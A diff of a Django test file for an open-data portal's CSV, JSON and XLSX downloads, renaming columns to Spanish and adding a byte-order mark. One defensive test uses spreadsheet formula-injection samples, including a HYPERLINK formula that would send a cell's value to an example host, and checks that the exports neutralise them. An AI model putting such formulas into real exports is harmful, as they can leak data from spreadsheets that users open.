@@ -25,33 +25,55 @@ pytestmark = pytest.mark.django_db
 #: The documented columns of a program (DATA.md, "Open data"), in order.
 PROGRAM_HEADER = [
     "id",
-    "cycle",
-    "section",
-    "objective",
-    "objective_title",
-    "number",
-    "title",
+    "ciclo",
+    "parte",
+    "objetivo",
+    "objetivo_nombre",
+    "objetivos_secundarios",
+    "objetivos_secundarios_nombres",
+    "numero",
+    "titulo",
     "actor",
-    "state_code",
-    "state",
-    "institutions",
-    "populations",
-    "description",
-    "results",
-    "challenges",
-    "challenges_none",
-    "has_quantitative_results",
-    "start_date",
-    "end_date",
-    "permanent",
-    "source_document",
-    "source_first_line",
-    "source_last_line",
+    "entidad_clave",
+    "entidad",
+    "instituciones",
+    "instituciones_nombres",
+    "poblaciones",
+    "poblaciones_nombres",
+    "poblaciones_inferidas",
+    "descripcion",
+    "resultados",
+    "resultados_estado",
+    "retos",
+    "retos_estado",
+    "sin_retos",
+    "con_resultados_cuantitativos",
+    "cifras",
+    "fecha_inicio",
+    "fecha_termino",
+    "permanente",
+    "presupuesto_mxn",
+    "situacion",
+    "enlaces",
+    "programa_anterior_id",
+    "fuente_documento",
+    "fuente_primera_linea",
+    "fuente_ultima_linea",
     "url",
 ]
+#: The byte-order mark every CSV starts with (Excel reads it as "this file is UTF-8").
+BOM = b"\xef\xbb\xbf"
+
+
+def col(name: str) -> int:
+    """The position of a program column."""
+    return PROGRAM_HEADER.index(name)
+
+
 FORMATS = ("csv", "json", "xlsx")
 DATASETS = (
     "programas",
+    "cifras",
     "objetivos",
     "entidades",
     "instituciones",
@@ -83,7 +105,8 @@ def download(client, fmt: str, query: str = "", name: str = "portal:download", a
 
 
 def csv_rows(data: bytes) -> list[list[str]]:
-    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))
+    assert data.startswith(BOM)
+    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
 
 
 def as_text(value) -> str:
@@ -93,7 +116,7 @@ def as_text(value) -> str:
     if value is None:
         return ""
     if isinstance(value, bool):
-        return "true" if value else "false"
+        return "sí" if value else "no"
     if isinstance(value, dt.datetime):
         return value.date().isoformat()
     return str(value)
@@ -119,6 +142,15 @@ def json_rows(data: bytes, name: str = "programs") -> tuple[dict, list[list[str]
     return document, [header] + [[as_text(r[k]) for k in header] for r in records]
 
 
+def add_figures() -> None:
+    """Two figures of a published program (the 2022 compendium has none of its own)."""
+    from observatorio.programs.models import ResultFigure
+
+    program = Program.objects.published().order_by("pk").first()
+    ResultFigure.objects.create(program=program, label="Personas atendidas", value=12)
+    ResultFigure.objects.create(program=program, label="Niñas", value=5, sex="mujeres")
+
+
 def listed_ids(client, query: str) -> list[int]:
     """The program ids the search page lists on its first page, in order."""
     body = client.get(reverse("portal:search") + query).content.decode()
@@ -139,13 +171,14 @@ def test_the_csv_holds_exactly_the_programs_the_search_page_lists(client, indexe
     ids = [int(row[0]) for row in rows[1:]]
     assert ids == expected  # the same programs, in the page's (relevance) order
     assert ids[: len(listed_ids(client, query))] == listed_ids(client, query)
-    assert {row[8] for row in rows[1:]} == {"07"}
-    assert {row[9] for row in rows[1:]} == {"Chiapas"}
+    assert {row[col("entidad_clave")] for row in rows[1:]} == {"07"}
+    assert {row[col("entidad")] for row in rows[1:]} == {"Chiapas"}
     first = Program.objects.get(pk=ids[0])
     record = dict(zip(PROGRAM_HEADER, rows[1], strict=True))
-    assert record["title"] == first.title
-    assert record["description"] == first.description  # multi-line text survives quoting
-    assert record["objective"] == str(first.objective.number)
+    assert record["titulo"] == first.title
+    assert record["descripcion"] == first.description  # multi-line text survives quoting
+    assert record["objetivo"] == str(first.objective.number)
+    assert record["objetivo_nombre"] == first.objective.title_es
     assert record["url"] == f"http://testserver/programas/{first.pk}/"
     assert client.get(urlsplit(record["url"]).path).status_code == 200
     assert response["Content-Disposition"] == (
@@ -157,8 +190,9 @@ def test_the_csv_is_streamed_utf8_rfc4180(client, indexed):
     response, data = download(client, "csv", "?q=ninas")
     assert response.streaming
     assert response["Content-Type"] == "text/csv; charset=utf-8; header=present"
-    assert not data.startswith(b"\xef\xbb\xbf")  # no BOM
-    text = data.decode("utf-8")
+    assert data.startswith(BOM)  # Excel opens it as UTF-8
+    assert not data[3:].startswith(BOM)
+    text = data.decode("utf-8-sig")
     assert "niñas" in text
     assert text.endswith("\r\n")
     assert text.split("\r\n", 1)[0] == ",".join(PROGRAM_HEADER)
@@ -196,7 +230,8 @@ def test_the_xlsx_opens_and_states_the_filters_and_the_source(client, indexed):
     assert list(rows[0]) == PROGRAM_HEADER
     jalisco = Program.objects.published().filter(state__inegi_code="14", cycle__edition=2022)
     assert sorted(r[0] for r in rows[1:]) == sorted(jalisco.values_list("pk", flat=True))
-    assert all(isinstance(r[0], int) and isinstance(r[16], bool) for r in rows[1:])
+    assert all(isinstance(r[0], int) for r in rows[1:])
+    assert {r[col("permanente")] for r in rows[1:]} <= {"sí", "no"}
     about = [
         [v for v in row if v is not None]
         for row in workbook["Acerca de"].iter_rows(values_only=True)
@@ -207,7 +242,7 @@ def test_the_xlsx_opens_and_states_the_filters_and_the_source(client, indexed):
     ignored = next(row for row in about if row and row[0] == "poblacion")
     assert ignored[1] == "marcianos"
     assert any("sin fines comerciales" in v for v in flat)
-    assert "has_quantitative_results" in flat  # the columns are documented in the file
+    assert "con_resultados_cuantitativos" in flat  # the columns are documented in the file
 
 
 def test_texts_stay_texts_in_the_spreadsheet_and_cannot_run_as_formulas_from_the_csv(
@@ -229,19 +264,22 @@ def test_texts_stay_texts_in_the_spreadsheet_and_cannot_run_as_formulas_from_the
     )
     _r, data = download(client, "csv", query)
     record = next(r for r in csv_rows(data) if r[0] == str(program.pk))
-    assert record[6] == "'" + program.title and record[12] == "#N/A"
-    assert record[13] == "con timbre\x07 de control"  # CSV keeps control characters
-    assert record[14] == "'-guion inicial"
-    assert record[5] == "99"
+    assert record[col("titulo")] == "'" + program.title
+    assert record[col("descripcion")] == "#N/A"
+    assert record[col("resultados")] == "con timbre\x07 de control"  # CSV keeps control chars
+    assert record[col("retos")] == "'-guion inicial"
+    assert record[col("numero")] == "99"
     _r, data = download(client, "json", query)
     record = next(r for r in json.loads(data)["programs"] if r["id"] == program.pk)
-    assert record["title"] == program.title  # JSON is exact
+    assert record["titulo"] == program.title  # JSON is exact
     _r, data = download(client, "xlsx", query)
     sheet = xlsx_workbook(data)["programas"]
     row = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == program.pk)
-    assert (row[6].value, row[6].data_type) == (program.title, "s")  # not a formula
-    assert (row[12].value, row[12].data_type) == ("#N/A", "s")  # not an error value
-    assert row[13].value == "con timbre de control"  # XML cannot hold the control character
+    title, description = row[col("titulo")], row[col("descripcion")]
+    assert (title.value, title.data_type) == (program.title, "s")  # not a formula
+    assert (description.value, description.data_type) == ("#N/A", "s")  # not an error value
+    # XML cannot hold the control character.
+    assert row[col("resultados")].value == "con timbre de control"
 
 
 FORMULAS = ['=HYPERLINK("http://example.org/?x="&A1,"ver")', "+52 55 1234", "-guion", "@SUMA(A1)"]
@@ -270,14 +308,14 @@ def test_every_dataset_csv_neutralises_formulas_but_not_negative_numbers(client,
 
     for url in (reverse("portal:download", args=["csv"]), "/datos/programas.csv"):
         response = client.get(url)
-        titles = {row[6] for row in csv_rows(body_of(response))}
+        titles = {row[col("titulo")] for row in csv_rows(body_of(response))}
         assert {f"'{title}" for title in FORMULAS} <= titles, url
         assert not set(FORMULAS) & titles, url
     institutions = csv_rows(body_of(client.get("/datos/instituciones.csv")))
     sre = next(row for row in institutions if row[0] == "SRE")
     assert sre[1] == "'@SRE"
     panorama = csv_rows(body_of(client.get("/datos/panorama.csv")))
-    at = panorama[0].index("value")
+    at = panorama[0].index("valor")
     row = next(row for row in panorama if row[0] == str(figure.pk))
     assert (row[at], row[at + 1]) == ("-3.5", "'-3.5")  # the number stays a number
     # The data dictionary states the rule: the datapackage (each CSV) and the /datos/ page.
@@ -391,9 +429,16 @@ def test_the_coverage_matrix_download_matches_the_coverage_page(client, indexed)
     response, data = download(client, "csv", "?ciclo=2022", "portal:dataset", ["cobertura"])
     assert 'filename="cobertura-2022.csv"' in response["Content-Disposition"]
     rows = csv_rows(data)
-    assert rows[0] == ["cycle", "state_code", "state", "objective", "programs"]
+    assert rows[0] == [
+        "ciclo",
+        "entidad_clave",
+        "entidad",
+        "objetivo",
+        "objetivo_nombre",
+        "programas",
+    ]
     assert len(rows) - 1 == 32 * 23
-    counts = {(r[1], int(r[3])): int(r[4]) for r in rows[1:]}
+    counts = {(r[1], int(r[3])): int(r[5]) for r in rows[1:]}
     for row in matrix.rows:
         for objective, n in zip(matrix.objectives, row.counts, strict=True):
             assert counts[(row.state.inegi_code, objective.number)] == n
@@ -405,8 +450,8 @@ def test_the_coverage_matrix_download_matches_the_coverage_page(client, indexed)
 
 def test_the_search_page_links_the_downloads_of_what_it_shows(client, indexed):
     page = client.get(reverse("portal:search") + "?q=ninas&entidad=07").content.decode()
-    links = re.findall(r'href="(/buscar/programas\.(\w+)[^"]*)"', page)
-    assert [fmt for _url, fmt in links] == list(FORMATS)
+    links = re.findall(r'href="(/buscar/programas\.([\w.]+?)(?:\?[^"]*)?)"', page)
+    assert [fmt for _url, fmt in links] == ["csv", "excel.csv", "json", "xlsx"]
     assert links[0][0] == "/buscar/programas.csv?q=ninas&amp;entidad=07"
     for url, _fmt in links:
         assert client.get(url.replace("&amp;", "&")).status_code == 200
@@ -438,6 +483,7 @@ def test_the_opendata_page_offers_every_dataset_in_every_format(client, everythi
 def test_every_dataset_has_the_same_rows_in_every_format(client, everything):
     from observatorio.published.opendata.datasets import DATASETS as REGISTRY
 
+    add_figures()
     for slug, dataset in REGISTRY.items():
         _r, csv_data = download(client, "csv", name="portal:dataset", args=[slug])
         _r, json_data = download(client, "json", name="portal:dataset", args=[slug])
@@ -449,7 +495,7 @@ def test_every_dataset_has_the_same_rows_in_every_format(client, everything):
         assert document["count"] == len(from_csv) - 1, slug
         if slug == "panorama":
             # Values are numbers in JSON and XLSX: compare them as numbers.
-            at = dataset.header.index("value")
+            at = dataset.header.index("valor")
             for rows in (from_csv, from_json):
                 for row in rows[1:]:
                     row[at] = float(row[at]) if row[at] else None
@@ -471,11 +517,11 @@ def test_practices_keep_their_five_marks_and_qualification(client, everything):
     marks = ["sostenibilidad", "asociacion", "innovacion", "replicabilidad", "eficacia"]
     for record in records:
         practice = GoodPractice.objects.get(pk=record["id"])
-        assert [record[f"{m}_mark"] for m in marks] == list(practice.marks().values())
-        assert record["qualification"] == practice.qualification.value
-        assert int(record["marks_met"]) == list(practice.marks().values()).count("cumple")
-    assert {r["qualification"] for r in records} == {"califica"}
-    unknown = [r for r in records if "sin_dato" in [r[f"{m}_mark"] for m in marks]]
+        assert [record[f"{m}_marca"] for m in marks] == list(practice.marks().values())
+        assert record["calificacion"] == practice.qualification.value
+        assert int(record["criterios_cumplidos"]) == list(practice.marks().values()).count("cumple")
+    assert {r["calificacion"] for r in records} == {"califica"}
+    unknown = [r for r in records if "sin_dato" in [r[f"{m}_marca"] for m in marks]]
     assert len(unknown) == 6  # a gap in the source is "sin dato", never a pass (DATA.md)
 
 
@@ -513,6 +559,7 @@ def test_the_datapackage_describes_every_csv_and_validates(client, everything, t
     assert paths == [f"http://testserver/datos/{slug}.csv" for slug in DATASETS]
     programs = original["resources"][0]
     assert programs["name"] == "programs"
+    assert original["resources"][1]["name"] == "figures"
     assert (programs["format"], programs["mediatype"], programs["encoding"]) == (
         "csv",
         "text/csv",
@@ -522,13 +569,15 @@ def test_the_datapackage_describes_every_csv_and_validates(client, everything, t
     assert all(f["description"] for r in original["resources"] for f in r["schema"]["fields"])
     assert programs["schema"]["primaryKey"] == ["id"]
     assert {
-        "fields": ["objective"],
-        "reference": {"resource": "objectives", "fields": ["number"]},
+        "fields": ["objetivo"],
+        "reference": {"resource": "objectives", "fields": ["numero"]},
     } in programs["schema"]["foreignKeys"]
     assert {
-        "fields": ["state_code"],
-        "reference": {"resource": "states", "fields": ["inegi_code"]},
+        "fields": ["entidad_clave"],
+        "reference": {"resource": "states", "fields": ["clave_inegi"]},
     } in programs["schema"]["foreignKeys"]
+    permanent = next(f for f in programs["schema"]["fields"] if f["name"] == "permanente")
+    assert (permanent["trueValues"], permanent["falseValues"]) == (["sí"], ["no"])
 
     write_package(client, tmp_path)
     report = frictionless.validate(str(tmp_path / "datapackage.json"))
@@ -539,9 +588,9 @@ def test_the_datapackage_describes_every_csv_and_validates(client, everything, t
     # The foreign keys are checked: a state code no state has makes the package invalid.
     table = tmp_path / "programas.csv"
     rows = csv_rows(table.read_bytes())
-    target = next(i for i, row in enumerate(rows) if row[8] == "07")
-    rows[target][8] = "33"
-    with table.open("w", encoding="utf-8", newline="") as handle:
+    target = next(i for i, row in enumerate(rows) if row[col("entidad_clave")] == "07")
+    rows[target][col("entidad_clave")] = "33"
+    with table.open("w", encoding="utf-8-sig", newline="") as handle:
         csv.writer(handle, lineterminator="\r\n").writerows(rows)
     broken = frictionless.validate(str(tmp_path / "datapackage.json"))
     assert not broken.valid
